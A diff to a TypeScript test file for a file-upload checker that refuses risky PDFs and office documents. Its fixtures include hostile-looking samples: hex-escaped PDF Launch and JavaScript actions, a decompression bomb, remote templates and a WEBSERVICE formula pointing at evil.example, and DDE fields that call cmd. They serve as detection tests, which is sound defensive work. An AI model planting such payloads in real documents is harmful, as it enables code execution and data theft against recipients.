@@ -1,8 +1,11 @@
+import { readFileSync } from 'node:fs'
+import { deflateSync } from 'node:zlib'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import * as specimens from '../../../test/specimens.ts'
 import { xlsx } from '../sheet/index.ts'
-import { cleanFileName, contentDisposition, fileHeaders, inspectUpload } from './index.ts'
+import { cleanFileName } from '../uploads/index.ts'
+import { contentDisposition, fileHeaders, inspectUpload } from './index.ts'
 
 const refusal = (bytes: Uint8Array, name = 'a.bin', limits = {}) => {
   const found = inspectUpload(bytes, name, limits)
@@ -43,11 +46,34 @@ describe('what is not taken', () => {
     ['a PDF that starts a program', specimens.pdf('/OpenAction <</S /Launch>>'), 'プログラム'],
     ['a PDF with script', specimens.pdf('/S /JavaScript /JS (app.alert(1))'), 'プログラム'],
     ['a locked PDF', specimens.pdf('/Encrypt 3 0 R'), 'パスワード'],
+    ['a PDF whose script is spelt in numbers', specimens.pdf('/S /J#61vaScript /JS (app.alert(1))'), 'プログラム'],
+    ['a PDF whose program is spelt in numbers', specimens.pdf('/OpenAction <</S /L#61u#6Ech>>'), 'プログラム'],
+    ['a PDF that carries a file', specimens.pdf('/EF <</F 5 0 R>>'), 'プログラム'],
+    ['a PDF that sends away what is typed', specimens.pdf('/A <</S /SubmitForm>>'), 'プログラム'],
+    ['a PDF with a packed script', specimens.pdfWithPackedObjects('<</S/JavaScript/JS(app.alert(1))>>'), 'プログラム'],
+    ['a PDF with a packed program in numbers', specimens.pdfWithPackedObjects('<</S/#4caunch>>'), 'プログラム'],
+    [
+      'a PDF whose packed objects nobody can look into',
+      specimens.pdfWithPackedObjects('', { filter: '/LZWDecode', packed: Buffer.from('800b6050220c0c8501', 'hex') }),
+      '中を確かめられない',
+    ],
+    [
+      'a PDF whose packed objects fill a disk',
+      specimens.pdfWithPackedObjects('', { packed: deflateSync(Buffer.alloc(80_000_000)) }),
+      '大きすぎ',
+    ],
     ['a photo cut off', specimens.jpeg().subarray(0, 60), '壊れて'],
     ['a picture cut off', specimens.png().subarray(0, 40), '壊れて'],
     ['a picture larger than a screen could show', specimens.png({ width: 60_000, height: 60_000 }), '大きすぎ'],
   ])('%s', (_, bytes, sentence) => {
     expect(refusal(bytes)).toContain(sentence)
+  })
+
+  test('a PDF that may be read but not printed, with a sentence that is true of it', () => {
+    const locked = readFileSync('test/specimens/print-locked.pdf')
+    expect(refusal(locked, '届出.pdf')).toBe(
+      'パスワードや、印刷・編集の制限がかかったPDFは、中を確かめられないため添付できません。制限を外すか、もとの文書からPDFをつくり直して添付してください。',
+    )
   })
 
   test('a program called a text', () => {
@@ -93,6 +119,109 @@ describe('what is not taken', () => {
   })
 })
 
+describe('office documents that reach outside', () => {
+  const { docx, xlsxWith, pptxWith, odtWith, related, zip } = specimens
+  const at = (place: string) => `${place}/_rels/x.xml.rels`
+  const wide = (xml: string) => Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(xml, 'utf16le')])
+  const remote =
+    '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+  const chart = zip([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.xml' }])
+
+  test.each([
+    ['a remote template', docx(related(at('word'), 'attachedTemplate', 'https://evil.example/a.dotm'))],
+    ['a template on another machine', docx(related(at('word'), 'attachedTemplate', 'file:///\\\\evil\\a.dotm'))],
+    [
+      'a template spelt in numbers',
+      docx(related(at('word'), 'attachedTemplate', '&#104;ttp://evil.example/a', '&#69;xternal')),
+    ],
+    ['a remote template in wide letters', docx({ name: at('word'), body: wide(remote) })],
+    ['a picture that is fetched when it is opened', docx(related(at('word'), 'image', 'https://evil.example/a.png'))],
+    ['a part of another document', docx(related(at('word'), 'subDocument', 'file:///C:/a.docx'))],
+    ['a link to another book', xlsxWith(related(at('xl/externalLinks'), 'externalLinkPath', 'file:///C:/a.xlsx'))],
+    [
+      'a link to a running program',
+      xlsxWith({ name: 'xl/externalLinks/externalLink1.xml', body: Buffer.from('<ddeLink ddeService="cmd"/>') }),
+    ],
+    ['a connection to data', xlsxWith({ name: 'xl/connections.xml', body: Buffer.from('<connections/>') })],
+    [
+      'a formula that fetches',
+      xlsxWith({
+        name: 'xl/worksheets/sheet1.xml',
+        body: Buffer.from('<f>_xlfn.WEBSERVICE("http://evil.example")</f>'),
+      }),
+    ],
+    [
+      'a field that starts a program',
+      docx({
+        name: 'word/footer1.xml',
+        body: Buffer.from(
+          '<w:instrText>DD</w:instrText><w:instrText xml:space="preserve">EAUTO c:\\\\cmd</w:instrText>',
+        ),
+      }),
+    ],
+    ['a remote film on a slide', pptxWith(related(at('ppt/slides'), 'video', 'https://evil.example/a.mp4'))],
+    ['a remote picture in OpenDocument', odtWith('<draw:image xlink:href="http://evil.example/a.png"/>')],
+    ['a linked section in OpenDocument', odtWith('<text:section-source xlink:href="../a.odt"/>')],
+    ['a link to a running program in OpenDocument', odtWith('<office:dde-source office:dde-application="soffice"/>')],
+  ])('%s', (_, bytes) => {
+    expect(refusal(bytes)).toBe(
+      'ほかのファイルやホームページから内容を取り込む設定のある文書は添付できません。取り込みのリンクを解除するか、PDFで保存し直したものを添付してください。',
+    )
+  })
+
+  test.each([
+    ['an object of another program', docx({ name: 'word/embeddings/oleObject1.bin' })],
+    ['a control that runs', docx({ name: 'word/activeX/activeX1.xml' })],
+    [
+      'a document in a document',
+      docx(
+        { name: 'word/embeddings/a.docx', body: docx() },
+        related(at('word'), 'package', 'embeddings/a.docx', 'Internal'),
+      ),
+    ],
+    [
+      'a chart’s book that holds an object itself',
+      pptxWith(
+        { name: 'ppt/embeddings/b.xlsx', body: xlsxWith({ name: 'xl/embeddings/oleObject1.bin' }) },
+        related(at('ppt/charts'), 'package', '../embeddings/b.xlsx', 'Internal'),
+      ),
+    ],
+    ['an object in OpenDocument', odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
+    [
+      'a step that calls a program in OpenDocument',
+      odtWith('<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:LibreLogo"/>'),
+    ],
+  ])('%s', (_, bytes) => {
+    expect(refusal(bytes)).toBe(
+      'ほかのファイルやプログラムを埋め込んだ文書は添付できません。埋め込んだものを外すか、PDFで保存し直したものを添付してください。',
+    )
+  })
+
+  test('a locked OpenDocument', () => {
+    const manifest = Buffer.from('<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>')
+    expect(refusal(odtWith('\x93\x10', { name: 'META-INF/manifest.xml', body: manifest }))).toContain('パスワード')
+  })
+
+  test('while links to read on, charts and one’s own template are taken', () => {
+    const good = [
+      docx(related(at('word'), 'hyperlink', 'https://www.city.example.lg.jp/')),
+      docx(related(at('word'), 'attachedTemplate', 'file:///C:\\Users\\hanako\\様式.dotx')),
+      docx(related(at('word'), 'image', 'media/image1.png', 'Internal'), { name: 'word/media/image1.png' }),
+      pptxWith(
+        { name: 'ppt/embeddings/b.xlsx', body: chart },
+        related(at('ppt/charts'), 'package', '../embeddings/b.xlsx', 'Internal'),
+      ),
+      xlsxWith({ name: 'xl/ctrlProps/ctrlProp1.xml' }),
+      odtWith(
+        '<text:a xlink:href="https://www.city.example.lg.jp/">市</text:a><draw:image xlink:href="Pictures/a.png"/>',
+      ),
+    ]
+    expect(good.map((bytes) => refusal(bytes))).toEqual(
+      ['docx', 'docx', 'docx', 'pptx', 'xlsx', 'odt'].map((kind) => `taken as ${kind}`),
+    )
+  })
+})
+
 describe('photos', () => {
   test('a photo forgets where it was taken and keeps which way is up', () => {
     const { bytes, kind } = taken(specimens.jpeg(), '写真.JPG')
@@ -131,6 +260,17 @@ describe('photos', () => {
 })
 
 describe('documents', () => {
+  test('a PDF with packed objects and pictures of any bytes is taken', () => {
+    const picture = Buffer.concat([
+      Buffer.from('6 0 obj <</Subtype /Image>>\nstream\n'),
+      Buffer.from('/JS /AA /Launcher /EFG'),
+      Buffer.from('\nendstream endobj\n'),
+    ])
+    const whole = specimens.pdfWithPackedObjects('<</Type/Page/Title(Launch of a JavaScript course)>>')
+    const cut = whole.indexOf('trailer')
+    expect(taken(Buffer.concat([whole.subarray(0, cut), picture, whole.subarray(cut)]), '案内.pdf').kind).toBe('pdf')
+  })
+
   test('are known by what they are, whatever their name says', async () => {
     const book = await bytesOf(xlsx({ name: '表', columns: [{ key: 'a', label: '名', value: () => '緑' }] }, [1]))
     const odt = specimens.zip([
